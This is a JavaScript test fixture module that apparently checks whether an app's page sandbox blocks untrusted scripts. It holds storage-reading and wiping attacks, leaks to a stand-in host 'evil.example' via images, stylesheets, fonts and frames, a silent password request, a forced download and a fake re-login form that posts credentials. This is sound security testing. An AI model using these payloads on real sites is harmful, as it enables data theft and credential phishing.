/** What the scripts of attacks begin with: an account of what came of each, and what they share. */
export const attackTools = `
var report = {}, evil = 'https://evil.example/', tries = [], app = 'http://localhost:APP_PORT';
function attempt(name, act) {
  try { var got = act(); report[name] = got === undefined || got === null || got === '' ? 'nothing' : String(got); }
  catch (error) { report[name] = 'refused: ' + error.name; }
}
function later(name, act) {
  tries.push(Promise.race([new Promise(function (done) { done(act()); }), new Promise(function (_, no) { setTimeout(no, 3000); })])
    .then(function (got) { report[name] = 'reached: ' + got; }, function () { report[name] = 'refused'; }));
}
function add(tag, properties) { return document.body.appendChild(Object.assign(document.createElement(tag), properties)); }
var cookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
var child = document.createElement('iframe');
document.documentElement.append(child);
`;

/**
 * Attacks that a page comes through unseen. Each of them gets what it wants on a page that nothing keeps
 * off: what is planted there, what was loaded, who looks at it, and a way out for what it learned.
 */
export const quietAttacks = `
attempt('03 kept by the app', function () { return localStorage.getItem('planted'); });
attempt('03 kept by the app for a while', function () { return sessionStorage.getItem('planted'); });
attempt('03 kept by the app, from a frame inside', function () { return child.contentWindow.localStorage.getItem('planted'); });
later('03 databases of the app', function () {
  return indexedDB.databases().then(function (all) { return all[0].name; });
});
later('03 caches of the app', function () {
  return caches.keys().then(function (all) { return all[0].length && all[0]; });
});
later('03 wiped', function () {
  return new Promise(function (done) { setTimeout(done, 300); }).then(function () {
    localStorage.clear();
    sessionStorage.clear();
    try { indexedDB.deleteDatabase('planted'); } catch (error) { }
    return caches.delete('planted');
  });
});
add('img', { referrerPolicy: 'unsafe-url', src: evil + 'told.png' });
add('link', { rel: 'stylesheet', href: evil + 'quiet.css' });
add('link', { rel: 'prefetch', href: evil + 'prefetch' });
add('style', { textContent: '@import url("' + evil + 'quiet-import.css"); @font-face { font-family: leak; src: url("' + evil +
  'leak.woff2"); } body { font-family: leak; } p { background: url("' + evil + 'quiet-background.png"); }' });
add('object', { data: evil + 'quiet-object' });
add('iframe', { src: evil + 'quiet-frame' });
later('20 passwords without asking', function () { return navigator.credentials.get({ password: true, mediation: 'silent' }); });
add('a', { download: 'quiet.exe', href: 'data:application/octet-stream,evil', textContent: 'file' }).click();
attempt('25 referrer', function () { return document.referrer; });
attempt('25 what was loaded', function () {
  return performance.getEntries().map(function (entry) { return entry.name; }).find(function (name) { return name.indexOf(app) === 0; });
});
later('25 picture of the app', function () {
  return new Promise(function (yes, no) { add('img', { onload: yes, onerror: no, src: app + '/examples/kettle.svg' }); });
});
attempt('26 left in the name of the window', function () { var was = name; name = 'mark'; return was; });
attempt('26 left in a cookie', function () { cookie.set.call(document, 'mark=1'); return cookie.get.call(document); });
`;

/** A form that looks as if the exchange asked for the password again. */
export const fakeLogin = `<form id=login action="https://evil.example/login" method=post>
<input name=username aria-label="E-mail again" autocomplete=username>
<input type=password name=word aria-label="Password again" autocomplete=current-password>
<button>Sign in again</button></form>`;

/** Something in each kind of storage of the page that runs it. */
export const plantSecrets = `(async () => {
  for (const kept of [localStorage, sessionStorage]) kept.setItem('planted', 'secret');
  await caches.open('planted');
  await new Promise((done) => {
    const request = indexedDB.open('planted');
    request.onsuccess = () => { request.result.close(); done(); };
  });
})()`;

/** Which of it is still there. */
export const readSecrets = `(async () => [
  localStorage.getItem('planted'), sessionStorage.getItem('planted'), await caches.has('planted'),
  (await indexedDB.databases()).some(({ name }) => name === 'planted'),
])()`;
export const allSecrets = ['secret', 'secret', true, true];
